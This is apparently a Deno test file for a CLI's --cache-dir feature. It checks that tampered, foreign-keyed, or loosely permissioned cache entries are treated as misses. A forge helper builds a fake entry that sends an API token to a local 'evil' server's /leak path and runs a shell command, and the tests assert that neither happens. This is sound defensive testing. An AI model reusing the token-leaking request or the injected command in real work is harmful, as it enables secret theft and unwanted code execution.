/**
 * A `--cache-dir` entry grants nothing the flow file does not: an entry
 * rewritten by whoever can write the folder (a shared temporary path, a CI
 * cache restored from another job) is a miss and the file is loaded, and a
 * folder or entry others could have written is refused with a warning.
 * Every run is the CLI as a subprocess against servers on 127.0.0.1.
 */
import assert from "node:assert/strict";
import "../support/engines.ts";
import { loadFlow } from "../../lib/load/load_flow.ts";
import { runCli } from "../support/cli.ts";

const SECRET = "tok-cache-trust-5150";

/** A server that counts the requests it gets and keeps their paths. */
function server() {
  const paths: string[] = [];
  const s = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    paths.push(new URL(req.url).pathname);
    return new Response("ok");
  });
  return { paths, url: `http://127.0.0.1:${s.addr.port}`, close: () => s.shutdown() };
}

/**
 * A folder with `f.yaml` (one step to `good`), the per-user key folder
 * (`XDG_CONFIG_HOME`) and the run's environment; removed after `body`.
 */
async function withSetup(
  body: (t: {
    dir: string;
    good: ReturnType<typeof server>;
    evil: ReturnType<typeof server>;
    run: (...extra: string[]) => ReturnType<typeof runCli>;
  }) => Promise<void>,
): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "flowrun-cache-trust-" });
  const good = server();
  const evil = server();
  try {
    await Deno.mkdir(`${dir}/config`);
    await Deno.writeTextFile(
      `${dir}/f.yaml`,
      `name: f\nsteps:\n  - name: s\n    request: {url: "${good.url}/ok"}\n    assert: {status: 200}\n`,
    );
    const env = { API_TOKEN: SECRET, XDG_CONFIG_HOME: `${dir}/config`, HOME: `${dir}/config` };
    const run = (...extra: string[]) =>
      runCli(["run", "f.yaml", "--cache-dir", "cache", ...extra], { cwd: dir, env });
    await body({ dir, good, evil, run });
  } finally {
    await good.close();
    await evil.close();
    await Deno.remove(dir, { recursive: true });
  }
}

/** The one entry in `cache`, its path, and the text before its JSON (a seal, if any). */
function theEntry(dir: string) {
  const names = [...Deno.readDirSync(`${dir}/cache`)].map((e) => e.name);
  assert.equal(names.length, 1, names.join());
  const path = `${dir}/cache/${names[0]}`;
  const text = Deno.readTextFileSync(path);
  const at = text.indexOf("{");
  return { path, head: text.slice(0, at), entry: JSON.parse(text.slice(at)) };
}

/**
 * What an attacker who can run flowrun writes: the entry for the file as it
 * is, its flow swapped for one that sends the token elsewhere and runs a
 * program (loaded with commands allowed, so it is well-formed).
 */
function forge(dir: string, evil: string, command = true): void {
  const { path, head, entry } = theEntry(dir);
  const auth = `auth: {bearer: {command: [sh, -c, "echo ran > ${dir}/ran; echo t"]}}\n`;
  const text = `name: f\n${command ? auth : ""}` +
    `steps:\n  - name: s\n    request: {url: "${evil}/leak/\${ENV.API_TOKEN}"}\n    assert: {status: 200}\n`;
  const forged = loadFlow(text, entry.flow.file, {
    allowCommands: true,
    env: (name) => name === "API_TOKEN" ? SECRET : undefined,
  });
  assert.deepEqual(forged.problems, []);
  entry.flow = forged.flow;
  entry.env = [["API_TOKEN", true]];
  Deno.writeTextFileSync(path, head + JSON.stringify(entry));
}

function assertFromFile(
  r: { code: number; stdout: string; stderr: string },
  t: { dir: string; good: { paths: string[] }; evil: { paths: string[] } },
) {
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.deepEqual(t.evil.paths, [], "the rewritten entry's request was sent");
  assert.equal(existsSync(`${t.dir}/ran`), false, "the rewritten entry's command ran");
  assert.deepEqual(t.good.paths, ["/ok", "/ok"], "the file's step did not run");
}

function existsSync(path: string): boolean {
  try {
    Deno.lstatSync(path);
    return true;
  } catch {
    return false;
  }
}

for (const command of [false, true]) {
  const what = command ? "its command does not run" : "its URL is not sent";
  Deno.test(`--cache-dir: a rewritten entry is a miss: ${what}`, async () => {
    await withSetup(async (t) => {
      const first = await t.run();
      assert.equal(first.code, 0, first.stdout + first.stderr);
      forge(t.dir, t.evil.url, command);
      const second = await t.run();
      assertFromFile(second, t);
      // The entry is written again from the file, and the next run reads it back (a hit leaves
      // the file as it is; a miss replaces it).
      const written = Deno.statSync(theEntry(t.dir).path).ino;
      const third = await t.run();
      assert.equal(third.code, 0, third.stdout + third.stderr);
      assert.equal(Deno.statSync(theEntry(t.dir).path).ino, written, "the entry was not read back");
      assert.deepEqual(t.evil.paths, []);
      assert.equal(theEntry(t.dir).entry.flow.steps[0].request.url.source, `${t.good.url}/ok`);
    });
  });
}

Deno.test("--cache-dir: an entry sealed under another user's key (a CI cache from another job) is a miss", async () => {
  await withSetup(async (t) => {
    assert.equal((await t.run()).code, 0);
    forge(t.dir, t.evil.url);
    // Another job: a fresh per-user key, the folder restored as it was.
    await Deno.remove(`${t.dir}/config`, { recursive: true });
    await Deno.mkdir(`${t.dir}/config`);
    const second = await t.run();
    assertFromFile(second, t);
  });
});

/** The warning lines of a run's stderr about the cache. */
const cacheWarnings = (stderr: string) =>
  stderr.split("\n").filter((line) => line.includes("cache-not-trusted"));

const unix = Deno.build.os !== "windows";

Deno.test({
  name: "--cache-dir: a folder others can write is not used, with one warning line naming it",
  ignore: !unix,
  async fn() {
    await withSetup(async (t) => {
      await Deno.mkdir(`${t.dir}/cache`);
      Deno.chmodSync(`${t.dir}/cache`, 0o777);
      const r = await t.run();
      assert.equal(r.code, 0, r.stdout + r.stderr);
      const warnings = cacheWarnings(r.stderr);
      assert.equal(warnings.length, 1, r.stderr);
      assert.match(warnings[0], /"cache"/);
      assert.deepEqual([...Deno.readDirSync(`${t.dir}/cache`)], [], "an entry was written into it");
      // Its entries are not read either: the one a run wrote before is a miss.
      Deno.chmodSync(`${t.dir}/cache`, 0o700);
      assert.equal((await t.run()).code, 0);
      forge(t.dir, t.evil.url, false);
      Deno.chmodSync(`${t.dir}/cache`, 0o757);
      assertFromFile(await t.run(), { ...t, good: { paths: t.good.paths.slice(1) } });
      // A folder of another user, however its mode, is not used either.
      if (Deno.uid() === 0) {
        Deno.chmodSync(`${t.dir}/cache`, 0o755);
        Deno.chownSync(`${t.dir}/cache`, 65534, 65534);
        const other = await t.run();
        assert.equal(other.code, 0, other.stdout + other.stderr);
        assert.equal(cacheWarnings(other.stderr).length, 1, other.stderr);
        assert.match(cacheWarnings(other.stderr)[0], /owned by user 65534/);
      }
    });
  },
});

Deno.test({
  name: "--cache-dir: an entry others can write, or another user owns, is a miss and is replaced",
  ignore: !unix,
  async fn() {
    await withSetup(async (t) => {
      assert.equal((await t.run()).code, 0);
      const { path } = theEntry(t.dir);
      const cases: [string, () => void][] = [
        ["group-writable", () => Deno.chmodSync(path, 0o660)],
        [
          "world-writable",
          () => Deno.chmodSync(path, 0o606),
        ],
      ];
      if (Deno.uid() === 0) {
        cases.push(["owned by nobody", () => Deno.chownSync(path, 65534, 65534)]);
      }
      for (const [what, spoil] of cases) {
        spoil();
        const before = Deno.statSync(path);
        const r = await t.run();
        assert.equal(r.code, 0, r.stdout + r.stderr);
        const warnings = cacheWarnings(r.stderr);
        assert.equal(warnings.length, 1, `${what}: ${r.stderr}`);
        assert.match(warnings[0], /"cache"/);
        // A miss: the entry was written again, the run's own and for it alone.
        const after = Deno.statSync(path);
        assert.notEqual(after.ino, before.ino, `${what}: the entry was not replaced`);
        assert.equal(after.uid, Deno.uid());
        assert.equal(after.mode! & 0o077, 0, `${what}: mode ${after.mode!.toString(8)}`);
        const clean = await t.run();
        assert.deepEqual(cacheWarnings(clean.stderr), [], clean.stderr);
      }
    });
  },
});
